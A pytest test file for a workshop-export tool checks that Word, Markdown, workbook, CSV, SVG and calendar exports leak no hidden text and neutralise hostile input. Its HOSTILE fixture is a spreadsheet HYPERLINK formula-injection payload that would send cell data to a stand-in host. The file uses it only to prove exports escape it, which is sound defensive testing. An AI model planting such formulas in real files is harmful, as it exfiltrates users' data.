"""Files that people go on working with: read back by other programs' libraries."""

import csv
import dataclasses
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from icalendar import Calendar
from lxml import etree
from PIL import Image

from jointtable import content
from jointtable.domain.outgoing import folded, outgoing
from jointtable.domain.records import Action, Block, Goal, JointGoal, Participant, Term
from jointtable.domain.workshop import Workshop
from jointtable.export import EXPORTERS, Extras, export_file
from jointtable.export.files.markdown import escaped
from jointtable.export.files.reading import text_of
from jointtable.export.files.workbook import harmless
from jointtable.export.leaks import WouldLeak
from jointtable.interchange import read

SAMPLES = Path(__file__).parents[2] / "assets" / "samples"
FILES = [what for what, one in EXPORTERS.items() if one.endings != (".pdf",)]
HOSTILE = '=HYPERLINK("http://x.example/"&A1,"click") <b>|`*_[x](y)\n# no heading & so on'


@pytest.fixture(scope="module", params=["gearworks-dairies", "pannukakku"])
def sample(request):
    leaks = json.loads((SAMPLES / f"{request.param}.leaks.json").read_text("utf-8"))
    return read((SAMPLES / f"{request.param}.json").read_bytes()), leaks["never_in"]


@pytest.fixture(scope="module")
def workshop():
    return read((SAMPLES / "gearworks-dairies.json").read_bytes())


def write(workshop, folder, what, reader="joint", **more):
    document = EXPORTERS[what]
    target = folder / f"{what}-{reader}{document.endings[0]}"
    out = outgoing(workshop, reader, document.projection)
    return export_file(out, target, what=what, content=content.load(), **more).path


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """Write each file once, for whoever only reads it."""
    folder, done = tmp_path_factory.mktemp("written"), dict[object, Path]()

    def once(workshop, what, reader="joint", **more):
        key = (workshop.setup.id, what, reader, *more.items())
        if key not in done:
            place = folder / str(len(done))
            place.mkdir()
            done[key] = write(workshop, place, what, reader, **more)
        return done[key]

    return once


def changed(workshop, **by_id):
    """Return the workshop with some records replaced."""
    return Workshop.of_records(by_id.get(one.id, one) for one in workshop.records())


def hostile(workshop):
    """Return the workshop with one hostile text in cards of several kinds."""
    cards = [workshop.of(kind)[0] for kind in (JointGoal, Action, Goal, Term)]
    fields = {JointGoal: "title", Action: "text", Goal: "text", Term: "wording"}
    replaced = {one.id: dataclasses.replace(one, **{fields[type(one)]: HOSTILE}) for one in cards}
    return changed(workshop, **replaced)


@pytest.mark.parametrize("what", FILES)
def test_no_file_says_what_its_reader_may_not_see(sample, written, what):
    workshop, never = sample
    for reader in EXPORTERS[what].readers:
        path = written(workshop, what, reader)
        found = folded(text_of(path.read_bytes(), path.suffix))
        assert [text for text in never[reader] if folded(text) in found] == []


@pytest.mark.parametrize("what", [one for one in FILES if one != "picture"])
def test_the_same_workshop_makes_the_same_bytes(workshop, written, tmp_path, what):
    one = written(workshop, what).read_bytes()
    assert write(workshop, tmp_path, what).read_bytes() == one


def test_a_text_that_must_not_leave_stops_the_file(workshop, tmp_path):
    out = outgoing(workshop, "joint")
    told = folded(workshop.of(JointGoal)[0].title)
    wrong = dataclasses.replace(out, forbidden=frozenset({told}))
    for what in FILES:
        target = tmp_path / f"x{EXPORTERS[what].endings[0]}"
        if what in {"picture", "calendar", "word"}:  # the first two hold no text of goals
            continue
        with pytest.raises(WouldLeak):
            export_file(wrong, target, what=what, content=content.load())
        assert list(tmp_path.iterdir()) == []


# --- text -----------------------------------------------------------------------------------------


def test_word_has_real_headings_tables_and_pictures_with_alternative_texts(workshop, written):
    document = docx.Document(str(written(workshop, "word")))
    headings = [p.text for p in document.paragraphs if p.style and p.style.name == "Heading 1"]
    sections = content.load().playbook.section_by_key
    for key in ("where_we_stand", "what_we_both_want", "what_we_promise", "signatures"):
        assert sections[key].heading.en in headings
    assert len(document.tables) > 5
    pictures = document.element.body.iter("{*}docPr")
    assert all(len(one.get("descr")) > 20 for one in pictures)
    assert len(document.inline_shapes) >= 4
    assert document.core_properties.title.startswith("Joint playbook")


def test_word_and_markdown_keep_hostile_texts_as_they_were_typed(workshop, tmp_path):
    made = hostile(workshop)
    document = docx.Document(str(write(made, tmp_path, "word")))
    said = "\n".join(node.text or "" for node in document.element.body.iter("{*}t"))
    assert HOSTILE.split("\n", maxsplit=1)[0] in said
    text = write(made, tmp_path, "text").read_text("utf-8")
    assert "<b>" not in text.replace("\\<b\\>", "")
    assert "\n# no heading" not in text


def test_markdown_says_the_playbook_in_its_order(sample, written):
    workshop, _ = sample
    text = written(workshop, "text", language="fi").read_text("utf-8")
    sections = content.load().playbook.section_by_key
    found = [line[3:] for line in text.splitlines() if line.startswith("## ")]
    order = [escaped(one.heading.fi) for one in sections.values()]
    known = [order.index(one) for one in found if one in order]
    assert known == sorted(known)
    assert len(known) > 8
    assert text.startswith("# ")


@pytest.mark.parametrize(
    ("typed", "read_as"),
    [
        ("1. first", "1\\. first"),
        ("- dash", "\\- dash"),
        ("a & b < c", "a &amp; b \\< c"),
        ("2026", "2026"),
        ("x-1 + y", "x-1 + y"),
        ("#growth", "\\#growth"),
    ],
)
def test_markdown_takes_nothing_typed_for_markup(typed, read_as):
    assert escaped(typed) == read_as


# --- tables ---------------------------------------------------------------------------------------


def test_the_workbook_has_its_sheets_and_every_id_once(sample, written):
    workshop, _ = sample
    book = openpyxl.load_workbook(written(workshop, "workbook", language="en"))
    assert book.sheetnames == [
        *("Agenda", "Participants", "Cards", "Votes by side", "Positions", "Gaps"),
        *("Decisions", "Actions", "Glossary"),
    ]
    for sheet in book:
        ids = [row[0].value for row in sheet.iter_rows(min_row=2)]
        assert len(ids) == len(set(ids)) > 0
        assert sheet.freeze_panes == "A2"
    kinds = {row[2].value for row in book["Cards"].iter_rows(min_row=2)}
    assert {"Hope", "Assumption", "Goal", "Joint goal", "Process step", "Action"} <= kinds


def test_a_side_s_workbook_holds_its_own_words_and_not_the_other_side_s(workshop, written):
    def ids(reader):
        book = openpyxl.load_workbook(written(workshop, "workbook", reader))
        return {row[0].value for row in book.worksheets[2].iter_rows(min_row=2)}

    joint, sales, procurement = ids("joint"), ids("sales"), ids("procurement")
    assert joint < sales
    assert joint < procurement
    assert not (sales - joint) & (procurement - joint)


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(workshop, tmp_path):
    path = write(hostile(workshop), tmp_path, "workbook")
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" and cell.hyperlink is None for cell in cells)
    assert any(str(cell.value).startswith("=HYPERLINK") for cell in cells)
    with zipfile.ZipFile(path) as archive:
        assert not any("hyperlink" in name.lower() for name in archive.namelist())


@pytest.mark.parametrize("start", ["=1", "+1", "-1", "@x", "\tx", "\rx", " =1", "|x", "＝1"])
def test_a_csv_cell_never_starts_a_formula(start):
    assert harmless(start).startswith("'")


@pytest.mark.parametrize("text", ["", "plain", "5 % more", "a = b"])
def test_other_csv_cells_stay_as_they_are(text):
    assert harmless(text) == text


@pytest.mark.parametrize(("language", "mark"), [("en", ","), ("fi", ";")])
def test_csv_reads_back_in_the_manner_of_its_language(workshop, written, language, mark):
    data = written(workshop, "cards", language=language).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=mark))
    assert len({len(row) for row in rows}) == 1
    titles = {row[5] for row in rows}
    assert workshop.of(JointGoal)[0].title in titles


# --- calendar -------------------------------------------------------------------------------------


def test_the_calendar_has_the_day_reviews_and_live_actions_and_no_attendee(sample, written):
    workshop, _ = sample
    calendar = Calendar.from_ical(written(workshop, "calendar").read_bytes())
    events = calendar.walk("VEVENT")
    ids = {str(event["UID"]).split("@")[0] for event in events}
    assert workshop.setup.id in ids
    live = {one.id for one in workshop.of(Action) if one.due and one.visibility == "joint"}
    assert live & ids
    assert not any("ATTENDEE" in event or "ORGANIZER" in event for event in events)
    addresses = [one.email for one in workshop.of(Participant) if one.email]
    assert not any(address in str(calendar.to_ical()) for address in addresses)
    days: list[Any] = [event for event in events if "T" not in str(event["DTSTART"].to_ical())]
    assert all((one["DTEND"].dt - one["DTSTART"].dt).days == 1 for one in days)


# --- pictures -------------------------------------------------------------------------------------


def test_a_png_shows_the_whole_table_or_one_frame_and_says_nothing_else(workshop, tmp_path):
    with Image.open(write(workshop, tmp_path, "picture")) as table:
        assert table.width > 4500
        assert table.info == {}
    goals = next(one for one in workshop.of(Block) if one.stage == "goals")
    frame = write(workshop, tmp_path, "picture", extras=Extras(frame=goals.id))
    with Image.open(frame) as picture:
        assert picture.size == (3360, 1960)
        assert len(picture.getcolors(1 << 24) or ()) > 50


def test_an_svg_keeps_texts_as_texts_and_asks_for_nothing_outside(workshop, tmp_path):
    path = write(hostile(workshop), tmp_path, "drawing", language="en")
    root = etree.fromstring(path.read_bytes())
    said = " ".join("".join(node.itertext()) for node in root.iter("{*}text"))
    assert "What do we both want" in said
    assert root.find("{*}title").text.startswith("The whole table")
    names = {etree.QName(node).localname for node in root.iter("{*}*")}
    assert not names & {"script", "a", "image", "foreignObject", "use"}
    assert "url(http" not in path.read_text("utf-8")


def test_a_canvas_lies_as_the_table_does(sample, written):
    workshop, _ = sample
    board = json.loads(written(workshop, "canvas").read_text("utf-8"))
    groups = [node for node in board["nodes"] if node["type"] == "group"]
    cards = [node for node in board["nodes"] if node["type"] == "text"]
    stages = [b for b in workshop.of(Block) if b.stage and not b.skipped]
    assert len(groups) == len(stages)
    ids = {node["id"] for node in board["nodes"]}
    assert len(ids) == len(board["nodes"])
    assert all({edge["fromNode"], edge["toNode"]} <= ids for edge in board["edges"])
    assert board["edges"]
    for card in cards:
        assert any(_inside(card, group) for group in groups)


def _inside(card, group):
    return (
        group["x"] <= card["x"]
        and group["y"] <= card["y"]
        and card["x"] + card["width"] <= group["x"] + group["width"]
        and card["y"] + card["height"] <= group["y"] + group["height"]
    )


# --- poor workshops -------------------------------------------------------------------------------


@pytest.mark.parametrize("what", FILES)
def test_an_empty_workshop_makes_every_file(tmp_path, what):
    bare = {
        "format": "jointtable.workshop/1",
        "workshop": {"id": "bare", "language": "en"},
        "parties": [{"id": side, "name": f"{side} plc"} for side in ("sales", "procurement")],
    }
    path = write(read(json.dumps(bare).encode()), tmp_path, what)
    assert path.stat().st_size > 0
